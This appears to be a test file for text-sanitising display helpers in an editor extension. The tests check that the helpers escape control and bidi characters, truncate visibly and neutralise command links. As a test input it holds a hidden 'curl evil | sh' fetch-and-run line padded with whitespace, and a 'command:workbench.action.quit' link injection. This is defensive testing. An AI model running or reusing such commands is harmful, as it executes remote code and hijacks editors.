import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  manyLines,
  oneLine,
  shownPath,
  wholeLines,
  withoutLinks,
} from '../../../src/core/plainText';

describe('wholeLines', () => {
  it('leaves nothing out without saying so', () => {
    assert.deepEqual(wholeLines('npm test', 100, 3), ['npm test']);
    assert.deepEqual(wholeLines('abcdefg', 3, 3), ['abc', 'def', 'g']);
    assert.deepEqual(wholeLines('abcdefg', 2, 2), [
      'ab',
      'cd',
      'and 3 more characters, which you do not see',
    ]);
    const script = `mocha${' '.repeat(500)}; curl evil | sh \u202E`;
    assert.deepEqual(wholeLines(script, 100, 3), ['mocha ; curl evil | sh \\u{202E}']);
  });
});

describe('manyLines', () => {
  it('keeps lines, tabs and length, and spells out what a terminal obeys', () => {
    const code = `\tif (a) {\r\n${'b'.repeat(5000)}\n}\r`;
    assert.equal(manyLines(code), code);
    assert.equal(
      manyLines('a\u001b[2K\rb\u009b1A\u202Ec'),
      'a\\u{001B}[2K\\u{000D}b\\u{009B}1A\\u{202E}c',
    );
  });

  it('leaves nothing that a terminal obeys in any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        assert.doesNotMatch(manyLines(text).replace(/[\n\t]|\r(?=\n|$)/g, ''), /[\p{Cc}\p{Cf}]/u);
      }),
    );
  });
});

describe('oneLine', () => {
  it('makes one line of several', () => {
    assert.equal(oneLine('  SQL is built\r\n\tby hand. ', 100), 'SQL is built by hand.');
  });

  it('spells out what cannot be seen and what reorders text', () => {
    assert.equal(oneLine('a\u202Eb\u200Bc\u0007d', 100), 'a\\u{202E}b\\u{200B}c\\u{0007}d');
  });

  it('cuts long text with an ellipsis, between characters', () => {
    assert.equal(oneLine('abcdef', 4), 'abc…');
    assert.equal(oneLine('😀😀😀😀', 3), '😀😀…');
    assert.equal(oneLine('abcd', 4), 'abcd');
  });

  it('never answers more than one line, an invisible character, or too much, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.integer({ min: 1, max: 50 }), (text, max) => {
        const line = oneLine(text, max);
        assert.ok([...line].length <= max);
        assert.doesNotMatch(line, /[\p{Cc}\p{Cf}\u2028\u2029]/u);
      }),
    );
  });
});

describe('shownPath', () => {
  it('leaves an ordinary path as it is, and spells out odd spaces', () => {
    assert.equal(shownPath('my docs/a.js', 100), 'my docs/a.js');
    assert.equal(shownPath(' .js', 100), '\\u{0020}.js');
    assert.equal(shownPath('a  b\n.js ', 100), 'a \\u{0020}b\\u{000A}.js\\u{0020}');
  });

  it('shows no two paths alike, for any', () => {
    const path = fc.string({
      unit: fc.constantFrom(' ', '\n', '\u00a0', '\\', 'u{0020}', 'a', '.'),
    });
    fc.assert(
      fc.property(path, path, (one, other) => {
        assert.equal(shownPath(one, 1000) === shownPath(other, 1000), one === other);
      }),
    );
  });
});

describe('text for a message', () => {
  it('holds no link and no icon that the editor would make of it', () => {
    const hostile = 'see [details](command:workbench.action.quit) or $(check) done';
    const told = withoutLinks(hostile);
    assert.doesNotMatch(told, /\]\(/);
    assert.doesNotMatch(told, /\$\(/);
    assert.equal(told.replaceAll('\u200B', ''), hostile);
  });

  it('leaves ordinary text alone', () => {
    assert.equal(withoutLinks('a[0] costs $5 (more)'), 'a[0] costs $5 (more)');
  });
});
